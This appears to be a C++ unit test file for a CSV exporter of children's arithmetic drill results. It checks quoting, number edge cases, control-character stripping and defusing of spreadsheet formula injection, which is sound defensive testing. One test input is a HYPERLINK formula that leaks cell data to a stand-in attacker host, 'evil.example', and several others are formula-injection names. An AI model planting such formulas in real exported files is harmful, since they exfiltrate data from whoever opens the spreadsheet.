#include "progress/csv_rows.h"

#include <gtest/gtest.h>

#include <algorithm>
#include <optional>
#include <string>
#include <vector>

#include "tests/support/progress_files.h"
#include "tests/support/transcript.h"

namespace progress {
namespace {

using Block = testing_support::BlockFacts;

struct RowCase {
  Block block;
  std::string_view row;
};

TEST(CsvRowTest, WritesOneLineOfFactsPerTest) {
  const RowCase cases[] = {
      {.block = {},
       .row = "2026-12-08T10:00:00,2026-12-08T10:04:00,Ann,10,18,20,90,A,240,6,addition/"
              "subtraction\r\n"},
      // Quotes around a field with a comma or quotes, its quotes doubled.
      {.block = {.name = "a,\"b\"", .elapsed = "1e+06", .limit = "-3", .right = 0, .rating = "0"},
       .row = "2026-12-08T10:00:00,2026-12-08T10:04:00,\"a,\"\"b\"\"\",-3,0,20,0,F,1e+06,0,"
              "addition/subtraction\r\n"},
      {.block = {.name = "\"Jo\""},
       .row = "2026-12-08T10:00:00,2026-12-08T10:04:00,\"\"\"Jo\"\"\",10,18,20,90,A,240,6,addition/"
              "subtraction\r\n"},
      {.block = {.name = "O'Neil;Zoë"},
       .row = "2026-12-08T10:00:00,2026-12-08T10:04:00,\"O'Neil;Zoë\",10,18,20,90,A,240,6,addition/"
              "subtraction\r\n"},
      {.block = {.end = "??? ??? ?? ??:??:?? ????",
                 .start = "??? ??? ?? ??:??:?? ????",
                 .elapsed = "0",
                 .right = 20,
                 .rating = "2000"},
       .row = ",,Ann,10,20,20,100,A+,0,2000,addition/subtraction\r\n"},
      {.block = {.end = "Thu Jan 01 00:00:05   99", .start = "Tue Dec 08 10:00:00 12026"},
       .row = "12026-12-08T10:00:00,0099-01-01T00:00:05,Ann,10,18,20,90,A,240,6,addition/"
              "subtraction\r\n"},
      // The operations by their names, never by signs that a spreadsheet
      // would read as a formula.
      {.block = {.limit = "9", .signs = "x"},
       .row = "2026-12-08T10:00:00,2026-12-08T10:04:00,Ann,9,18,20,90,A,240,6,multiplication\r\n"},
      {.block = {.signs = "/x"},
       .row = "2026-12-08T10:00:00,2026-12-08T10:04:00,Ann,10,18,20,90,A,240,6,"
              "multiplication/division\r\n"},
      {.block = {.signs = "-"},
       .row = "2026-12-08T10:00:00,2026-12-08T10:04:00,Ann,10,18,20,90,A,240,6,subtraction\r\n"},
      // The widest numbers a block holds.
      {.block = {.limit = "-2147483648", .rating = "2147483647"},
       .row = "2026-12-08T10:00:00,2026-12-08T10:04:00,Ann,-2147483648,18,20,90,A,240,2147483647,"
              "addition/subtraction\r\n"},
      // Elapsed times of every length the reader takes, as logged.
      {.block = {.elapsed = "-9.22337e+18"},
       .row = "2026-12-08T10:00:00,2026-12-08T10:04:00,Ann,10,18,20,90,A,-9.22337e+18,6,"
              "addition/subtraction\r\n"},
      {.block = {.elapsed = "1.23457e+06"},
       .row = "2026-12-08T10:00:00,2026-12-08T10:04:00,Ann,10,18,20,90,A,1.23457e+06,6,"
              "addition/subtraction\r\n"},
      {.block = {.elapsed = "999999", .right = 19},
       .row = "2026-12-08T10:00:00,2026-12-08T10:04:00,Ann,10,19,20,95,A,999999,6,"
              "addition/subtraction\r\n"},
      {.block = {.elapsed = "-5", .right = 20},
       .row = "2026-12-08T10:00:00,2026-12-08T10:04:00,Ann,10,20,20,100,A+,-5,6,"
              "addition/subtraction\r\n"},
      {.block = {.signs = "+-x/"},
       .row = "2026-12-08T10:00:00,2026-12-08T10:04:00,Ann,10,18,20,90,A,240,6,"
              "addition/subtraction/multiplication/division\r\n"},
  };
  CsvRows rows;
  for (const RowCase& c : cases) {
    const std::optional<records::LoggedTest> test = testing_support::read_test(c.block);
    ASSERT_TRUE(test) << c.row;
    std::string out;
    rows.append_row(*test, &out);
    rows.flush(&out);
    EXPECT_EQ(out, c.row);
  }
}

// The reader takes no name longer than the drill writes, but a row holds
// whatever name its test has, whole.
TEST(CsvRowTest, WritesANameLongerThanTheDrillWritesWhole) {
  const std::string name(1000, 'n');
  std::optional<records::LoggedTest> test = testing_support::read_test({});
  ASSERT_TRUE(test);
  test->name = name;
  std::string out;
  CsvRows rows;
  rows.append_row(*test, &out);
  rows.flush(&out);
  EXPECT_EQ(out, "2026-12-08T10:00:00,2026-12-08T10:04:00," + name +
                     ",10,18,20,90,A,240,6,addition/subtraction\r\n");
}

struct NameCase {
  std::string name;  // as logged
  std::string_view field;
};

TEST(CsvRowTest, WritesNamesThatAFormulaCouldStartWithAQuoteFirst) {
  const NameCase cases[] = {
      {.name = "=1+1", .field = "'=1+1"},
      {.name = "+1+1", .field = "'+1+1"},
      {.name = "-1+1", .field = "'-1+1"},
      {.name = "@SUM(1,1)", .field = "\"'@SUM(1,1)\""},
      {.name = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")",
       .field = "\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"Click\"\")\""},
      {.name = "\tTab", .field = "'?Tab"},
      {.name = "\r=1", .field = "'?=1"},
      {.name = "-", .field = "'-"},
      {.name = "Ann-Marie", .field = "Ann-Marie"},
      {.name = "'=1", .field = "'=1"},  // a quote first already
      {.name = " =1", .field = " =1"},
      {.name = "\x1b[31m=1", .field = "?[31m=1"},
      {.name = "\xc2\x9b", .field = "?"},
      {.name = "\xe2\x80\xaeZed", .field = "?Zed"},
      {.name = "Bad\xff", .field = "Bad\uFFFD"},
      {.name = "Zoë", .field = "Zoë"},
      {.name = "Zoë,=x", .field = "\"Zoë,=x\""},
      // A spreadsheet that splits on ';' must keep the name in one cell.
      {.name = "x;=1+2;", .field = "\"x;'=1+2;\""},
      {.name = "=a;@b;c;-d", .field = "\"'=a;'@b;c;'-d\""},
      {.name = "a;b", .field = "\"a;b\""},
  };
  std::optional<records::LoggedTest> test =
      testing_support::read_test(Block{.limit = "-5", .rating = "-2"});
  ASSERT_TRUE(test);
  // One writer for all: each name is met once, so most take the place of
  // a name met before.
  CsvRows rows;
  for (const NameCase& c : cases) {
    test->name = c.name;
    std::string out;
    rows.append_row(*test, &out);
    rows.flush(&out);
    EXPECT_EQ(out, "2026-12-08T10:00:00,2026-12-08T10:04:00," + std::string(c.field) +
                       ",-5,18,20,90,A,240,-2,addition/subtraction\r\n");
  }
}

// The rows remember the fields of the names met lately. Children taking
// turns, more of them than are remembered, names that differ only in their
// last byte or only in their size, and a name met again after it was
// forgotten each get their own field in every row.
TEST(CsvRowTest, EveryRowHasItsOwnNamesFieldWhateverNamesCameBefore) {
  const std::vector<std::string> names = {
      "Ann",        "Bob",        "=Bob",      "Ann,Jo",      "Zoë",     "Zo\xff",
      "Christophe", "Christophx", "Christoph", "Christopher", "\"Max\"", "a;=b",
  };
  std::optional<records::LoggedTest> test = testing_support::read_test({});
  ASSERT_TRUE(test);
  CsvRows rows;
  // In turns, then in a shuffled order, then the first ones again.
  std::vector<std::size_t> order;
  for (int round = 0; round < 3; ++round) {
    for (std::size_t i = 0; i < names.size(); ++i) order.push_back(i);
  }
  for (std::size_t i = 0; i < names.size(); ++i) order.push_back((i * 7) % names.size());
  for (std::size_t i = 0; i < 4; ++i) order.push_back(i);
  for (const std::size_t i : order) {
    test->name = names[i];
    std::string field;
    append_csv_name(names[i], &field);
    std::string out;
    rows.append_row(*test, &out);
    rows.flush(&out);
    EXPECT_EQ(out, "2026-12-08T10:00:00,2026-12-08T10:04:00," + field +
                       ",10,18,20,90,A,240,6,addition/subtraction\r\n")
        << names[i];
  }
}

// Rows wait in the writer and go out a piece at a time: many rows, some
// with a name or an elapsed time too long to wait with them, come out whole
// and in order, as each row alone does.
TEST(CsvRowTest, RowsThatWaitComeOutInOrder) {
  std::optional<records::LoggedTest> test = testing_support::read_test({});
  ASSERT_TRUE(test);
  const std::string long_name(1000, 'n');
  const std::string long_elapsed(40, '9');
  std::string together;
  std::string one_by_one;
  CsvRows rows;
  for (int i = 0; i < 500; ++i) {
    const std::string name = "Child" + std::to_string(i % 13);
    test->name = i % 97 == 5 ? std::string_view(long_name) : std::string_view(name);
    test->elapsed = i % 89 == 7 ? std::string_view(long_elapsed) : std::string_view("240");
    rows.append_row(*test, &together);
    CsvRows alone;
    alone.append_row(*test, &one_by_one);
    alone.flush(&one_by_one);
  }
  rows.flush(&together);
  EXPECT_EQ(together, one_by_one);
  EXPECT_EQ(std::count(together.begin(), together.end(), '\n'), 500);
}

}  // namespace
}  // namespace progress
